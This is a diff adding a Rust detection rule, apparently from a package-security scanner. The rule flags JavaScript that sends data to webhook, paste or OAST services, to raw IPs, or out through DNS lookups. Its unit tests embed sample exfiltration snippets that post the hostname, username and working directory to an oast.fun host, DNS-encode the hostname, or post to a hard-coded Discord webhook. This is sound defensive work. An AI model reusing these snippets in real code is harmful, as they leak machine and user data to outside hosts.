@@ -1,0 +1,321 @@
+//! `exfil-sink`: network calls to raw IP addresses, webhook/paste/OAST services, and DNS
+//! exfiltration through data-bearing subdomains.
+
+use palisade_core::{Capability, Confidence, Finding, Severity};
+
+use super::sinks;
+use super::{FileRule, RuleInfo};
+use crate::facts::{Call, FileFacts, Value};
+
+pub struct ExfilSink;
+
+static INFO: RuleInfo = RuleInfo {
+    id: "exfil-sink",
+    severity: Severity::High,
+    confidence: Confidence::Medium,
+    capabilities: &[Capability::Network],
+    summary: "Sends data to a raw IP, a webhook/paste/OAST service, or out through DNS lookups",
+    docs: r#"## What it detects
+
+Network calls (http/https/http2, fetch, axios/got/request/needle/superagent/undici, net/tls/dgram
+sockets, WebSocket, XMLHttpRequest, or curl/wget run as a command) in a file that names:
+
+- an **exfiltration service**: Discord webhooks and Telegram bots with hard-coded credentials,
+  webhook.site, Pipedream, request bins and catchers, ngrok/Cloudflare/localtunnel tunnels,
+  interactsh/OAST domains (oast.fun, oast.pro, oast.live, oast.site, oast.online, oast.me,
+  interact.sh), Burp Collaborator (oastify.com), canarytokens, dnslog, paste sites (pastebin,
+  hastebin) and file drops (transfer.sh);
+- a **raw public IP address** (loopback, private, documentation ranges and the public DNS
+  resolvers are ignored);
+- **DNS exfiltration**: `dns.lookup`/`resolve*` of a hostname built at run time in a file that
+  hex/base32-encodes data or collects host facts, or of a literal name with a long hex label.
+
+Graded: **critical** when the same file also collects something to send (environment variables,
+`os.hostname()`/`os.userInfo()`/`os.homedir()`, network interfaces, credential paths, the
+current directory); **high** for an exfiltration service or DNS exfiltration alone; **moderate**
+for a raw IP alone.
+
+## Real attacks
+
+- Dependency-confusion probes (2021–2025, thousands of packages): a preinstall that sends
+  `os.hostname()`, `os.userInfo().username`, `process.cwd()` and the environment to interactsh,
+  Burp Collaborator, Pipedream or a raw IP, or encodes them as DNS labels of an OAST domain.
+- Stealer typosquats posting tokens to Discord webhooks and Telegram bots (2020–2025).
+- Shai-Hulud (September 2025): posted harvested secrets to a webhook.site URL.
+- ua-parser-js, coa and rc (2021): downloaded their miner from a raw IP address.
+
+## Known false positives
+
+SDKs that call their own API (`https://api.github.com/…`, `https://api.stripe.com/…`) are not
+reported. Libraries for Discord and Telegram build webhook/bot URLs from variables and are not
+reported; only hard-coded webhook ids and bot tokens are. Network tools that ship a default
+public IP (an NTP or STUN server) may be reported moderate.
+"#,
+};
+
+const DNS_CALLS: &[&str] = &[
+    "dns.lookup",
+    "dns.resolve",
+    "dns.resolve4",
+    "dns.resolve6",
+    "dns.resolveTxt",
+    "dns.resolveCname",
+    "dns.resolveAny",
+    "dns.promises.lookup",
+    "dns.promises.resolve",
+    "dns.promises.resolve4",
+    "dns.promises.resolveTxt",
+    "dns.promises.resolveAny",
+];
+
+impl FileRule for ExfilSink {
+    fn info(&self) -> &'static RuleInfo {
+        &INFO
+    }
+
+    fn check(&self, file: &FileFacts, out: &mut Vec<Finding>) {
+        let collected = collected_data(file);
+        let collects = !collected.is_empty();
+        let with_data = |base: Severity| if collects { Severity::Critical } else { base };
+        let data_note = if collects {
+            format!(", and the file collects {}", collected.join(", "))
+        } else {
+            String::new()
+        };
+
+        // DNS exfiltration.
+        let encodes = file.calls.iter().any(encodes_data);
+        for call in file
+            .calls
+            .iter()
+            .filter(|c| DNS_CALLS.contains(&sinks::normalize(&c.callee)))
+        {
+            let Some(name) = call.args.first() else {
+                continue;
+            };
+            let literal_hex_label = name.as_str().is_some_and(has_long_hex_label);
+            let oast = name
+                .as_str()
+                .is_some_and(|host| sinks::exfil_service(host, host).is_some());
+            let computed = sinks::is_computed(name);
+            if literal_hex_label || oast || (computed && (encodes || collects)) {
+                out.push(sinks::finding(
+                    &INFO,
+                    file,
+                    call.line,
+                    with_data(Severity::High),
+                    Confidence::Medium,
+                    format!("Looks up DNS names that carry data (DNS exfiltration){data_note}"),
+                    Some(&sinks::call_evidence(file, call)),
+                ));
+                return;
+            }
+        }
+
+        if !sinks::has_network(file) {
+            return;
+        }
+
+        // Hosts named in network call arguments first (best evidence), then anywhere in the file.
+        let mut best: Option<(Severity, u32, String, String)> = None;
+        let consider = |best: &mut Option<(Severity, u32, String, String)>,
+                        severity: Severity,
+                        line: u32,
+                        host: &str,
+                        what: String,
+                        evidence: String| {
+            if best.as_ref().is_none_or(|(s, ..)| severity > *s) {
+                *best = Some((severity, line, format!("{what} ({host})"), evidence));
+            }
+        };
+        for call in file
+            .calls
+            .iter()
+            .filter(|c| sinks::is_network(&c.callee) || sinks::is_exec(&c.callee))
+        {
+            for host in sinks::call_hosts(call) {
+                let text = call
+                    .args
+                    .iter()
+                    .filter_map(sinks::value_text)
+                    .collect::<Vec<_>>()
+                    .join(" ");
+                if let Some(label) = sinks::exfil_service(&host, &text) {
+                    consider(
+                        &mut best,
+                        Severity::High,
+                        call.line,
+                        &host,
+                        label.to_string(),
+                        sinks::call_evidence(file, call),
+                    );
+                } else if sinks::is_public_ipv4(&host) {
+                    consider(
+                        &mut best,
+                        Severity::Moderate,
+                        call.line,
+                        &host,
+                        "a raw IP address".to_string(),
+                        sinks::call_evidence(file, call),
+                    );
+                }
+            }
+        }
+        if best.is_none() {
+            for (text, _, line) in sinks::file_strings(file) {
+                if text.len() > 4096 {
+                    continue;
+                }
+                for host in sinks::url_hosts(text) {
+                    if let Some(label) = sinks::exfil_service(&host, text) {
+                        consider(
+                            &mut best,
+                            Severity::High,
+                            line,
+                            &host,
+                            label.to_string(),
+                            text.to_string(),
+                        );
+                    } else if sinks::is_public_ipv4(&host) {
+                        consider(
+                            &mut best,
+                            Severity::Moderate,
+                            line,
+                            &host,
+                            "a raw IP address".to_string(),
+                            text.to_string(),
+                        );
+                    }
+                }
+            }
+        }
+        if let Some((severity, line, target, evidence)) = best {
+            out.push(sinks::finding(
+                &INFO,
+                file,
+                line,
+                with_data(severity),
+                if collects { Confidence::High } else { Confidence::Medium },
+                format!("Talks to {target}{data_note}"),
+                Some(&evidence),
+            ));
+        }
+    }
+}
+
+/// What the file gathers about the machine or user.
+fn collected_data(file: &FileFacts) -> Vec<&'static str> {
+    let mut found = Vec::new();
+    let mut add = |what: &'static str| {
+        if !found.contains(&what) {
+            found.push(what);
+        }
+    };
+    for call in &file.calls {
+        match sinks::normalize(&call.callee) {
+            "os.hostname" => add("the host name"),
+            "os.userInfo" => add("the user name"),
+            "os.networkInterfaces" => add("network addresses"),
+            "process.cwd" => add("the working directory"),
+            _ => {}
+        }
+    }
+    for read in &file.member_reads {
+        if read.path == "process.env" && read.whole {
+            add("the environment");
+        } else if let Some(name) = read.path.strip_prefix("process.env.") {
+            if sinks::is_secret_env_name(name) {
+                add("secret environment variables");
+            } else if matches!(name, "USER" | "USERNAME" | "LOGNAME" | "COMPUTERNAME" | "HOSTNAME") {
+                add("the user name");
+            }
+        }
+    }
+    if sinks::file_strings(file).any(|(text, _, _)| sinks::credential_kinds(text).iter().any(|k| !k.is_weak())) {
+        add("credential files");
+    }
+    found
+}
+
+/// `buf.toString('hex'|'base64'|'base32')`, base32 libraries: data turned into DNS-safe labels.
+fn encodes_data(call: &Call) -> bool {
+    let callee = sinks::normalize(&call.callee);
+    (callee.ends_with("toString")
+        && call
+            .args
+            .first()
+            .and_then(Value::as_str)
+            .is_some_and(|e| matches!(e, "hex" | "base64" | "base64url")))
+        || callee.starts_with("base32")
+        || callee.starts_with("hi-base32")
+}
+
+/// A DNS label of 24+ hex characters: data, not a name.
+fn has_long_hex_label(host: &str) -> bool {
+    host.split('.')
+        .any(|label| label.len() >= 24 && label.bytes().all(|b| b.is_ascii_hexdigit()))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::facts;
+
+    fn run(source: &str) -> Vec<Finding> {
+        let file = facts::extract("index.js", source.as_bytes(), 0o644);
+        let mut out = Vec::new();
+        ExfilSink.check(&file, &mut out);
+        out
+    }
+
+    fn worst(source: &str) -> Severity {
+        run(source)
+            .iter()
+            .map(|f| f.severity)
+            .max()
+            .unwrap_or(Severity::Unknown)
+    }
+
+    #[test]
+    fn sdk_calling_its_own_api_is_quiet() {
+        let source = "const token = process.env.GITHUB_TOKEN;\nmodule.exports = () => fetch('https://api.github.com/repos/o/r', { headers: { authorization: `token ${token}` } });";
+        assert!(run(source).is_empty());
+    }
+
+    #[test]
+    fn discord_library_without_hardcoded_webhook_is_quiet() {
+        let source = "const https = require('https');\nmodule.exports = (id, token, body) => https.request(`https://discord.com/api/webhooks/${id}/${token}`, { method: 'POST' }).end(body);";
+        assert!(run(source).is_empty());
+    }
+
+    #[test]
+    fn hardcoded_discord_webhook_is_high() {
+        let source = "const https = require('https');\nconst req = https.request('https://discord.com/api/webhooks/112233445566778899/AbCdEf-token', { method: 'POST' });\nreq.end('{}');";
+        let findings = run(source);
+        assert_eq!(findings.len(), 1, "{findings:?}");
+        assert_eq!(findings[0].severity, Severity::High);
+        assert_eq!(findings[0].line, Some(2));
+    }
+
+    #[test]
+    fn recon_to_oast_is_critical() {
+        let source = "const os = require('os');\nconst https = require('https');\nconst data = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, d: process.cwd() });\nconst r = https.request({ hostname: 'cq1b2c3d4e5f.oast.fun', path: '/', method: 'POST' });\nr.write(data); r.end();";
+        assert_eq!(worst(source), Severity::Critical);
+    }
+
+    #[test]
+    fn raw_ip_alone_is_moderate() {
+        assert_eq!(
+            worst("const http = require('http');\nhttp.get('http://45.61.139.10:8080/ping');"),
+            Severity::Moderate
+        );
+        assert!(run("const http = require('http');\nhttp.get('http://127.0.0.1:8080/ping');").is_empty());
+    }
+
+    #[test]
+    fn dns_exfiltration_is_detected() {
+        let source = "const dns = require('dns');\nconst os = require('os');\nconst label = Buffer.from(os.hostname()).toString('hex');\ndns.lookup(label + '.d.collector.example.invalid', () => {});";
+        assert_eq!(worst(source), Severity::Critical);
+        assert!(run("const dns = require('dns');\ndns.lookup('registry.npmjs.org', () => {});").is_empty());
+    }
+}
